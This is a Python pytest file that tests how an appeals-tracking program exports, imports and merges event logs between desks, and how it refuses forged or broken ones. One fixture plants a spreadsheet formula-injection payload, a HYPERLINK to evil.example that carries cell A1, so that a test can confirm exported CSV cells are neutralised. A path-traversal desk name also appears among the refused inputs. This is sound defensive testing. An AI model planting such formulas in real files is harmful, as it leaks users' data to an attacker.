"""What one desk exports another takes over, once; what is not whole is not taken over at all."""

from __future__ import annotations

import csv
import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.log.builders import AT, CODE, approved, claimed, event, kinds, marked, merge
from urgent_appeals.domain.event import Event, EventKind, Place, sealed
from urgent_appeals.domain.item_state import WAITING, State
from urgent_appeals.errors import IllegalTransition, LogExportRefused, LogRestored, LogUnwritable, OutboxError
from urgent_appeals.log.backup import back_up
from urgent_appeals.log.exports import Form, export, guarded, unguarded, write_csv, write_json, write_sqlite
from urgent_appeals.log.imports import read_export
from urgent_appeals.log.opening import open_log
from urgent_appeals.log.restored import accept_restored
from urgent_appeals.log.store import Log


@pytest.fixture
def berta(tmp_path: Path) -> Path:
    """The outbox of another desk, which has sent item-1, approved item-2, and written strange things into a note."""
    outbox = tmp_path / "berta"
    with open_log(None, desk="berta", outbox=outbox) as log:
        marked(log, "item-1")
        log.append(event("sent", "item-1", detail={"text": "250 Қабылданды"}), event("approved", "item-2"))
        log.append(
            event("noted", "item-2", by='=HYPERLINK("http://evil.example/?"&A1,"x")', detail={"n": "a\r\n'=1 \udcff"})
        )
    return outbox


def exported(outbox: Path, form: Form, *, desk: str = "berta") -> Path:
    """Return the export of the log of a desk."""
    path = outbox / f"export.{form}"
    path.unlink(missing_ok=True)
    with open_log(None, desk=desk, outbox=outbox) as log:
        export(log, path, form)
    return path


@pytest.mark.parametrize("form", Form)
def test_an_export_is_taken_over_whole(log: Log, berta: Path, form: Form) -> None:
    log.append(event("noted", None))
    merged = merge(log, exported(berta, form))
    assert (merged.new, merged.known, merged.desks, merged.twice) == (6, 0, ("berta",), ())
    with open_log(None, desk="berta", outbox=berta) as theirs:
        assert [each for each in log.events() if each.desk == "berta"] == list(theirs.events())
    assert log.state("item-1").state is State.SENT
    assert log.verify() == ()


def test_what_was_taken_over_is_noted_by_this_desk(log: Log, berta: Path) -> None:
    merge(log, exported(berta, Form.JSON))
    (*_, noted) = log.events(kinds={EventKind.NOTED})
    assert (noted.desk, noted.by, noted.detail) == ("anna", "A. B.", {"imported": 6, "until": {"berta": 6}})


def test_a_backup_from_before_an_import_is_recognised_and_what_it_brought_is_unknown(
    tmp_path: Path, berta: Path
) -> None:
    outbox = tmp_path / "outbox"
    with open_log(None, desk="anna", outbox=outbox) as log:
        back_up(log, tmp_path / "backup.db")
        merge(log, exported(berta, Form.JSON))
        log.append(event("posted", "item-9", detail={"by_hand": True}))
    for left in outbox.glob("log.db*"):
        left.unlink()
    (tmp_path / "backup.db").replace(outbox / "log.db")
    with pytest.raises(LogRestored):
        open_log(None, desk="anna", outbox=outbox)
    accept_restored(None, desk="anna", outbox=outbox, by="A. B.", at=AT)
    with open_log(None, desk="anna", outbox=outbox) as log:
        assert log.state("item-1").state is State.UNKNOWN  # sent by the other desk
        assert log.state("item-2").state is State.PLANNED  # approved there, and not taken up
        assert log.state("item-9").state is State.UNKNOWN  # marked by hand


@pytest.mark.parametrize("chain", ["anna", "anna~2", "anna~9"])
def test_a_chain_that_this_desk_may_write_some_day_is_not_taken_over(log: Log, tmp_path: Path, chain: str) -> None:
    forged = sealed(event("noted", None), Place(desk=chain, seq=1, id="f" * 32))
    path = written([forged], tmp_path / "forged.json", Form.JSON)
    with pytest.raises(LogExportRefused, match="name is used elsewhere"):
        merge(log, path)


@pytest.mark.parametrize("kind", ["approved", "cancelled", "failed", "deferred"])
def test_what_another_desk_says_does_not_free_what_was_sent_here(log: Log, tmp_path: Path, kind: str) -> None:
    marked(log, "item-1")
    (sent,) = log.append(event("sent", "item-1"))
    forged = sealed(event(kind, "item-1"), Place(desk="berta", seq=1, id="f" * 32, after=(sent.id,)))
    merge(log, written([forged], tmp_path / "forged.json", Form.JSON))
    assert log.state("item-1").state is State.SENT


def test_a_mark_here_stays_to_be_recovered_whatever_another_desk_says(log: Log, tmp_path: Path) -> None:
    marked(log, "item-1")
    (*_, mark) = log.events(item="item-1")
    forged = sealed(event("approved", "item-1"), Place(desk="berta", seq=1, id="f" * 32, after=(mark.id,)))
    merge(log, written([forged], tmp_path / "forged.json", Form.JSON))
    assert [claim.id for claim in log.claims()] == [mark.id]


def test_taking_over_twice_changes_nothing(log: Log, berta: Path) -> None:
    path = exported(berta, Form.JSON)
    merge(log, path)
    before = list(log.events())
    merged = merge(log, path)
    assert (merged.new, merged.known) == (0, 6)
    assert list(log.events()) == before


def test_a_later_export_brings_what_is_new(log: Log, berta: Path) -> None:
    merge(log, exported(berta, Form.CSV))
    with open_log(None, desk="berta", outbox=berta) as theirs:
        theirs.append(event("cancelled", "item-2"))
    merged = merge(log, exported(berta, Form.SQLITE))
    assert (merged.new, merged.known) == (1, 6)
    assert log.state("item-2").state is State.CANCELLED


def test_an_older_export_after_a_later_one_changes_nothing(log: Log, berta: Path) -> None:
    older = exported(berta, Form.JSON)
    with open_log(None, desk="berta", outbox=berta) as theirs:
        theirs.append(event("cancelled", "item-2"))
    merge(log, exported(berta, Form.CSV))
    assert (merge(log, older).new, merge(log, older).known) == (0, 6)


def test_a_whole_log_of_another_desk_will_do(log: Log, berta: Path) -> None:
    assert merge(log, berta / "log.db").new == 6


def test_what_two_desks_both_sent_is_told(log: Log, berta: Path) -> None:
    marked(log, "item-1")
    log.append(event("sent", "item-1"))
    assert merge(log, exported(berta, Form.JSON)).twice == ("item-1",)
    assert log.state("item-1").twice


def test_what_another_desk_sent_is_not_taken_up_here(log: Log, berta: Path) -> None:
    approved(log, "item-1")
    merge(log, exported(berta, Form.JSON))
    assert log.transition(event("claimed", "item-1"), WAITING) is None


def test_claims_of_another_desk_are_not_this_one_s_to_finish(log: Log, tmp_path: Path) -> None:
    with open_log(None, desk="berta", outbox=tmp_path / "berta") as theirs:
        marked(theirs, "item-7")
    merge(log, exported(tmp_path / "berta", Form.JSON))
    assert log.claims() == ()
    assert [claim.item for claim in log.claims(of_others=True)] == ["item-7"]


def test_what_is_written_under_this_desk_s_own_name_elsewhere_is_refused(log: Log, tmp_path: Path) -> None:
    """As at a second computer with the same desk.yaml: its claims would be taken for one's own."""
    with open_log(None, desk="anna", outbox=tmp_path / "another") as another:
        claimed(another, "item-5")
    with pytest.raises(LogExportRefused, match="event 1 of the desk anna: this desk's name is used elsewhere"):
        merge(log, exported(tmp_path / "another", Form.JSON, desk="anna"))
    assert (list(log.events()), log.claims()) == ([], ())


def test_under_another_name_a_desk_takes_over_what_is_written_under_its_former_one(tmp_path: Path) -> None:
    with open_log(None, desk="anna", outbox=tmp_path / "another") as another:
        claimed(another, "item-5")
    open_log(None, desk="anna", outbox=tmp_path / "outbox").close()
    with open_log(None, desk="anna-2", outbox=tmp_path / "outbox") as log:
        assert merge(log, exported(tmp_path / "another", Form.JSON, desk="anna")).new == 2
        assert log.state("item-5").state is State.CLAIMED


def test_events_that_a_desk_lost_come_back_from_another(tmp_path: Path) -> None:
    """Anna's log went to Berta whole; Anna then went on from an older backup, and writes a new chain."""
    outbox = tmp_path / "outbox"
    with open_log(None, desk="anna", outbox=outbox) as log:
        back_up(log, tmp_path / "backup.db")
        approved(log, "item-5")
    path = exported(outbox, Form.JSON, desk="anna")
    (tmp_path / "backup.db").replace(outbox / "log.db")
    accept_restored(None, desk="anna", outbox=outbox, by="A. B.", at=AT)
    with open_log(None, desk="anna", outbox=outbox) as log:
        assert merge(log, path).new == 1
        (after,) = log.append(event("cancelled", "item-5"))
        assert (after.desk, after.seq) == ("anna~2", 3)
        assert log.verify() == ()


# ── what another desk may have sent as well ──


@pytest.mark.parametrize("recovered", [True, False])
def test_what_a_dead_sender_may_have_sent_and_another_desk_did_is_told(
    log: Log, berta: Path, *, recovered: bool
) -> None:
    marked(log, "item-1")
    if recovered:
        log.append(event("unknown", "item-1"))
    assert merge(log, exported(berta, Form.JSON)).twice == ("item-1",)
    assert log.state("item-1").state is State.SENT


def test_what_a_dead_sender_left_is_settled_though_another_desk_sent_it(log: Log, berta: Path) -> None:
    marked(log, "item-1")
    merge(log, exported(berta, Form.JSON))
    (mark,) = log.claims()
    settled = log.settle(event("unknown", "item-1"), [mark])
    assert settled is not None
    assert settled.after == (mark.id,)
    assert (log.claims(), log.state("item-1").twice) == ((), True)
    assert log.settle(event("unknown", "item-1"), [mark]) is None


def test_only_what_can_follow_settles(log: Log) -> None:
    marked(log, "item-1")
    with pytest.raises(IllegalTransition):
        log.settle(event("released", "item-1"), log.claims())


# ── what an import would undo ──


def undoing(log: Log, berta: Path, undone: Event, item: str = "item-1") -> Path:
    """Return an export of Berta's in which she undoes an event."""
    with open_log(None, desk="berta", outbox=berta) as theirs:
        theirs.append(event("undone", item, detail={"undoes": undone.id}))
    return exported(berta, Form.JSON)


def test_an_import_that_undoes_what_was_sent_is_refused(log: Log, berta: Path) -> None:
    marked(log, "item-5")
    (sent,) = log.append(event("sent", "item-5"))
    with pytest.raises(LogExportRefused, match="undoes what nobody marked by hand: event 4 of the desk anna"):
        merge(log, undoing(log, berta, sent, "item-5"))
    assert log.state("item-5").state is State.SENT


def test_an_import_that_undoes_what_it_brings_itself_is_refused(log: Log, berta: Path) -> None:
    with open_log(None, desk="berta", outbox=berta) as theirs:
        sent = next(theirs.events(kinds={EventKind.SENT}))
    with pytest.raises(LogExportRefused, match="undoes what nobody marked by hand"):
        merge(log, undoing(log, berta, sent))


@pytest.mark.parametrize(("item", "refused"), [("item-5", False), ("item-1", True)])
def test_a_mark_by_hand_of_the_same_item_is_undone_by_an_import(
    log: Log, berta: Path, item: str, *, refused: bool
) -> None:
    (posted,) = log.append(event("posted", "item-5", detail={"by_hand": True}))
    path = undoing(log, berta, posted, item)
    if refused:
        with pytest.raises(LogExportRefused, match="undoes what nobody marked by hand"):
            merge(log, path)
        return
    merge(log, path)
    assert log.state("item-5").state is State.PLANNED


# ── what is refused ──


Spoils = Callable[[list[Event]], list[Event]]


def changed(events: list[Event]) -> list[Event]:
    return [*events[:2], events[2].model_copy(update={"recipient": "arlandia/president"}), *events[3:]]


def shortened(events: list[Event]) -> list[Event]:
    return [*events[:2], *events[3:]]


def beheaded(events: list[Event]) -> list[Event]:
    return events[1:]


def swapped(events: list[Event]) -> list[Event]:
    return [*events[:2], events[3], events[2], *events[4:]]


@pytest.mark.parametrize(
    ("spoil", "reason"),
    [
        pytest.param(changed, "event 3 of the desk berta: its hash is not that of its content", id="changed"),
        pytest.param(shortened, "number 4 stands where number 3 belongs", id="taken out"),
        pytest.param(beheaded, "the events before it are missing", id="beginning taken off"),
        pytest.param(swapped, "number 4 stands where number 3 belongs", id="swapped"),
    ],
)
@pytest.mark.parametrize("form", Form)
def test_a_broken_chain_is_refused_and_nothing_taken_over(
    log: Log, berta: Path, form: Form, spoil: Spoils, reason: str
) -> None:
    events = spoil(list(read_export(exported(berta, form))))
    path = written(events, berta / "spoiled", form)
    with pytest.raises(LogExportRefused, match=reason):
        merge(log, path)
    assert list(log.events()) == []
    assert not list(log.epoch.path.parent.glob(".import-*"))


def written(events: list[Event], path: Path, form: Form) -> Path:
    """Write events as an export would have them."""
    if form is Form.SQLITE:
        write_sqlite(events, path)
    else:
        with path.open("w", encoding="utf-8", newline="") as file:
            (write_csv if form is Form.CSV else write_json)(events, file)
    return path


@pytest.mark.parametrize("longer", [0, 1], ids=["as long", "longer"])
def test_two_stories_of_one_desk_are_refused(log: Log, berta: Path, tmp_path: Path, longer: int) -> None:
    merge(log, exported(berta, Form.JSON))
    with open_log(None, desk="berta", outbox=tmp_path / "other") as another:
        another.append(*(event("noted", f"item-{number}") for number in range(6 + longer)))
    with pytest.raises(LogExportRefused, match="two logs are written under the name"):
        merge(log, exported(tmp_path / "other", Form.JSON))


def test_a_shorter_other_story_is_refused(log: Log, berta: Path, tmp_path: Path) -> None:
    merge(log, exported(berta, Form.JSON))
    with open_log(None, desk="berta", outbox=tmp_path / "other") as another:
        another.append(event("noted"))
    with pytest.raises(LogExportRefused, match="two logs"):
        merge(log, exported(tmp_path / "other", Form.JSON))


def a_line(**changes: object) -> str:
    """Return an export of one event, with some of its fields changed and the hash as it was."""
    place = Place(desk="berta", seq=1, id="0" * 32)
    fields = {**sealed(event("noted"), place).model_dump(mode="json"), **changes}
    return json.dumps({"format": "urgent-appeals log", "version": 1}).removesuffix("}") + (
        f', "events": [\n{json.dumps(fields)}\n]}}\n'
    )


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        pytest.param("", "is no export of a log", id="empty"),
        pytest.param("a,b\n", "is no export of a log", id="other CSV"),
        pytest.param("{", "no JSON", id="cut JSON"),
        pytest.param('{"format": "other", "version": 1, "events": [\n]}\n', "no export of a log", id="other JSON"),
        pytest.param(a_line()[:-4], "cut off", id="cut off"),
        pytest.param(a_line(kind="x"), "no event that can be read", id="unknown field"),
        pytest.param(a_line(event="gone"), "no event that can be read", id="unknown kind"),
        pytest.param(a_line(at="2026-04-02T09:30:00"), "no event that can be read", id="no time zone"),
        pytest.param(a_line(by="\ud800"), "its hash is not that of its content", id="no text"),
        pytest.param(a_line(id="x"), "no event of this program", id="other id"),
        pytest.param(a_line(desk="../berta"), "no event of this program", id="other desk"),
        pytest.param(a_line(attempt=-1), "no event of this program", id="no attempt"),
        pytest.param(a_line(detail={"x": "x" * 200_000}), "cut off", id="too long"),
        pytest.param(a_line(detail={"x": float("nan")}), "no JSON", id="no number"),
        pytest.param(a_line(by="someone else"), "its hash is not that of its content", id="changed"),
    ],
)
def test_what_is_no_export_is_refused(tmp_path: Path, content: str, reason: str) -> None:
    path = tmp_path / "export"
    path.write_text(content, "utf-8")
    with open_log(None, desk="anna", outbox=tmp_path / "outbox") as log:
        with pytest.raises(LogExportRefused, match=reason):
            merge(log, path)
        assert list(log.events()) == []


def test_a_line_of_a_table_with_too_few_cells_is_named(tmp_path: Path, berta: Path) -> None:
    path = exported(berta, Form.CSV)
    path.write_text(path.read_text("utf-8") + "1,2\n", "utf-8")
    with pytest.raises(LogExportRefused, match="has 2 cells, not 15"):
        list(read_export(path))


@pytest.mark.parametrize(
    "statement",
    [
        pytest.param("CREATE TABLE other (x)", id="no events"),
        pytest.param("CREATE VIEW events AS SELECT 1", id="a view"),
        pytest.param("CREATE TABLE events (x)", id="other columns"),
    ],
)
def test_a_database_that_is_no_log_is_refused(tmp_path: Path, statement: str) -> None:
    path = tmp_path / "export.db"
    with closing(sqlite3.connect(path)) as file:
        file.execute(statement)
    with pytest.raises(LogExportRefused):
        list(read_export(path))


def test_a_file_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(LogExportRefused, match=r"nothing\.csv.*No such file"):
        list(read_export(tmp_path / "nothing.csv"))


def test_what_cannot_be_written_is_not_half_taken_over(log: Log, berta: Path) -> None:
    """An event of it has an id that this log knows from another desk."""
    path = exported(berta, Form.JSON)
    (mine,) = log.append(event("noted"))
    first, *_ = read_export(path)
    forged = sealed(event("noted"), Place(desk="carl", seq=1, id=mine.id))
    with pytest.raises(LogUnwritable):
        merge(log, written([first, forged], path.with_name("forged"), Form.JSON))
    assert kinds(log) == ["noted"]


# ── files ──


@pytest.mark.parametrize("form", Form)
def test_an_export_is_its_owner_s_and_replaces_nothing(log: Log, tmp_path: Path, form: Form) -> None:
    log.append(event("noted"))
    path = tmp_path / "export"
    assert export(log, path, form) == 1
    assert path.stat().st_mode & 0o777 == 0o600
    content = path.read_bytes()
    with pytest.raises(OutboxError, match="already"):
        export(log, path, form)
    assert path.read_bytes() == content
    assert [each.name for each in tmp_path.iterdir() if "export" in each.name] == ["export"]


def test_progress_is_told(log: Log, tmp_path: Path) -> None:
    log.append(*(event("noted", f"item-{number}") for number in range(2_100)))
    told: list[int] = []
    export(log, tmp_path / "export", Form.CSV, told.append)
    with open_log(None, desk="berta", outbox=tmp_path / "berta") as other:
        merge(other, tmp_path / "export", told.append)
    assert told == [1000, 2000, 1000, 2000]


def test_an_empty_log_is_exported(log: Log, tmp_path: Path) -> None:
    for form in Form:
        assert export(log, tmp_path / form, form) == 0
        assert list(read_export(tmp_path / form)) == []


def test_no_cell_of_a_table_is_a_formula(berta: Path) -> None:
    text = exported(berta, Form.CSV).read_text("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]


@given(st.text(alphabet="'\"=+-@\t\r\n＝＋－＠a "))
def test_a_guarded_cell_says_what_it_said(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text).lstrip('"')[:1] not in tuple("=+-@\t\r＝＋－＠")


def test_a_json_export_is_one_document(berta: Path) -> None:
    document = json.loads(exported(berta, Form.JSON).read_text("utf-8"))
    assert (document["format"], document["version"], len(document["events"])) == ("urgent-appeals log", 1, 6)
    assert document["events"][0]["code"] == CODE
